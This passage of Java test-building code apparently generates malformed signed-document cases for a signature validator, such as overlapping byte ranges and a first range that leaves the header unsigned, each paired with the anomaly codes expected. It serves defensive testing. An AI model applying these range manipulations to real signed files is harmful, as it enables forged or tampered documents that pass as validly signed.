                + " string is itself inside the signed bytes' description (overlapping ranges)",
                attacker.resign(attackerSigned, overlap), 1, Set.of("BYTE_RANGE_ANOMALY", "HASH_MISMATCH"));
        long[] notFromZero = {10, own.gapStart() - 10, own.gapEnd(), own.values()[3]};
        add("coverage-not-from-zero", "COVERAGE", "The first range starts at byte 10: the header is not signed",
                attacker.resign(attackerSigned, notFromZero), 1, Set.of("BYTE_RANGE_ANOMALY"));

        if (range.end() != signed.length) {
            throw new IllegalStateException("base signature does not cover the file");
        }
    }

    private static Set<String> union(Set<String> a, Set<String> b) {
        java.util.Set<String> all = new java.util.TreeSet<>(a);
        all.addAll(b);
        return Set.copyOf(all);
    }

}
